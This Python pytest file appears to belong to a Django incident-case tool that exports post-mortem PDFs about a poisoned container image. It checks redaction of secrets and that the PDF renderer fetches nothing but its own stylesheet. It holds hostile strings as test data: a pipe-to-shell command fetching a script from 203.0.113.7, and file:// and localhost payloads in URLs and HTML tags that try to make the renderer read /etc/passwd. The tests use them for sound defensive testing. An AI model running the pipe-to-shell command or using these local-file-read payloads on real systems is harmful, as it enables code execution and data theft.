"""The PDF: every section, the evidence and image digests, findings, checklists; no secret whole; nothing
fetched but our own stylesheet, whatever the image's strings say."""

from __future__ import annotations

import hashlib
import re

import pytest
from django.urls import reverse

from cases.models import ChecklistItem, Evidence, ExportRecord
from cases.postmortem import context, render
from cases.postmortem.fetcher import BASE_URL, STYLESHEET, Refused, StaticOnlyFetcher
from tests.postmortem.conftest import HOSTILE_PATH, HOSTILE_TAG, SECRETS, pdftotext, squash

pytestmark = [pytest.mark.django_db, pytest.mark.pdf]


def test_the_pdf_states_every_section_and_fact(worked, web, tmp_path):
    response = web.get(reverse("cases:postmortem_pdf", args=[worked.case.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="{worked.case.key}-postmortem.pdf"'
    assert response.content.startswith(b"%PDF-")
    digest = hashlib.sha256(response.content).hexdigest()
    assert response["X-Content-SHA256"] == digest
    text = pdftotext(response.content, tmp_path)
    flat = squash(text)

    for _id, heading in context.SECTIONS:
        assert heading in text, heading
    assert worked.case.key in text and "Poisoned image" in text
    assert "TLP:AMBER" in text and "CONFIDENTIAL" in text  # cover and running header
    assert re.search(r"Page 2 of \d+", text)
    # evidence and image digests (long values may wrap: compare without whitespace)
    for item in Evidence.objects.filter(case=worked.case):
        assert item.sha256 in flat
    assert worked.image.manifest_digest.startswith("sha256:") and worked.image.manifest_digest in flat
    assert worked.image.config_digest in flat
    for layer in worked.image.layers.all():
        assert layer.digest in flat  # appendix A
    # findings: a path from the real scan, the rule ids, the triage
    assert "/usr/bin/.hidden_miner" in text
    assert "file.hidden-executable" in text and "history.pipe-to-shell" in text
    assert "Reproduced from the layer; part of the attack." in text
    # checklists with their items
    for item in ChecklistItem.objects.filter(checklist__case=worked.case)[:8]:
        assert squash(item.text) in flat, item.text
    assert "Key rotation" in text and "Registry purge" in text
    # narrative, timeline, lessons
    assert "Detection and trigger" in text and "CPU alerts on the web tier" in text
    assert "The miner had no network path" in text
    assert "curl -fsSL http://203.0.113.7/i.sh | bash" in text  # build history on the timeline
    # rule catalogue entries of the referenced rules
    assert "Appendix B. Rule catalogue" in text and "The image runs as root" in text
    # never a secret whole: the image's Env, the narrative that quotes the key id
    for secret in SECRETS:
        assert secret not in flat, secret
    assert "AKIA…MPLE" in text or "AKIA…[20" in text


def test_hostile_strings_print_literally_and_the_renderer_fetches_nothing_else(worked, tmp_path):
    fetcher = StaticOnlyFetcher()
    pm = context.build(worked.case, user=worked.case.lead, tlp="red", classification="Board only")
    pdf = render.pdf(pm, fetcher=fetcher)
    assert fetcher.requested == [BASE_URL + STYLESHEET]  # every request the renderer made
    assert fetcher.refused == []
    assert not any("passwd" in url or "127.0.0.1" in url for url in fetcher.requested)
    text = pdftotext(pdf.data, tmp_path)
    assert squash(HOSTILE_PATH) in squash(text)  # printed, not interpreted
    assert squash(HOSTILE_TAG) in squash(text)
    assert "root:x:0:0" not in text
    assert "TLP:RED" in text and "BOARD ONLY" in text
    assert pdf.pages >= 10


def test_the_fetcher_refuses_everything_but_the_bundled_stylesheet():
    fetcher = StaticOnlyFetcher()
    stylesheet = fetcher.fetch(BASE_URL + STYLESHEET)
    assert b"@page" in stylesheet.read()
    refused = [
        "file:///etc/passwd",
        "http://127.0.0.1:1/x",
        "https://example.com/logo.png",
        "data:text/css,body{}",
        BASE_URL + "static/css/app.css",
        BASE_URL + "static/css/../css/postmortem.css",
        BASE_URL + STYLESHEET + "?x",
        "/etc/passwd",
    ]
    for url in refused:
        with pytest.raises(Refused):
            fetcher.fetch(url)
    assert fetcher.refused == refused


def test_even_unescaped_markup_cannot_make_weasyprint_read_a_file_or_a_url(tmp_path):
    """Defence in depth: were escaping ever to fail, the fetcher still refuses."""
    from weasyprint import HTML

    fetcher = StaticOnlyFetcher()
    html = (
        '<html><head><link rel="stylesheet" href="http://127.0.0.1:1/x"></head><body>'
        '<p>before</p><img src="file:///etc/passwd"><img src="http://127.0.0.1:1/y.png">'
        '<object data="file:///etc/hostname"></object><p>after</p></body></html>'
    )
    data = HTML(string=html, base_url=BASE_URL, url_fetcher=fetcher).write_pdf()
    assert set(fetcher.refused) >= {"http://127.0.0.1:1/x", "file:///etc/passwd", "http://127.0.0.1:1/y.png"}
    assert fetcher.refused == fetcher.requested
    text = pdftotext(data, tmp_path)
    assert "before" in text and "after" in text and "root:" not in text


def test_the_document_uses_the_case_pages_own_charts(worked):
    from cases.workspace.charts import severity_svg
    from cases.workspace.queries import severity_counts

    pm = context.build(worked.case)
    html = render.html(pm)
    expected = severity_svg({name: c["total"] for name, c in severity_counts(worked.case).items()})
    assert expected in html
    assert html.count('aria-label="Layer chart') == len(pm.images) == 1
    assert "style=" not in html and "<script" not in html  # the preview runs under the strict CSP


def test_context_queries_do_not_grow_with_the_case(alice, make_user):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from cases.demo import build_demo_case
    from cases.postmortem.sample import work_the_case

    small = build_demo_case(alice, findings=20, files=200, seed=3)
    work_the_case(small, alice, timeline=5, triage=5)
    big = build_demo_case(make_user("bob"), findings=600, files=2000, seed=4)
    work_the_case(big, big.lead, timeline=60, triage=60)
    counts = []
    for case in (small, big):
        with CaptureQueriesContext(connection) as queries:
            context.build(case)
        counts.append(len(queries))
    assert counts[1] <= counts[0] + 2, counts  # ±2: an extra prefetch when a relation is empty


def test_an_export_of_a_case_with_no_evidence_still_renders(case, web, tmp_path):
    response = web.get(reverse("cases:postmortem_pdf", args=[case.pk]))
    assert response.status_code == 200
    text = pdftotext(response.content, tmp_path)
    assert "No evidence in this case." in text and "No findings to report." in text
    record = ExportRecord.objects.get(case=case)
    assert record.evidence == [] and record.status == "done"
